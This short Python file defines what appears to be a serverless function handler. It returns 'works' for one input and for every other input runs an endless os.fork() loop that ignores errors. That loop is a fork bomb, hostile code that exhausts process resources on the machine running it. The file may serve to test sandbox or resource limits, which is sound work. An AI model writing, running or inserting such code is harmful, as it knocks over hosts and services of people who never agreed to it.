import os


def handler(event, context):
    if event == "works":
        return "works"
    while True:
        try:
            os.fork()
        except OSError:
            pass
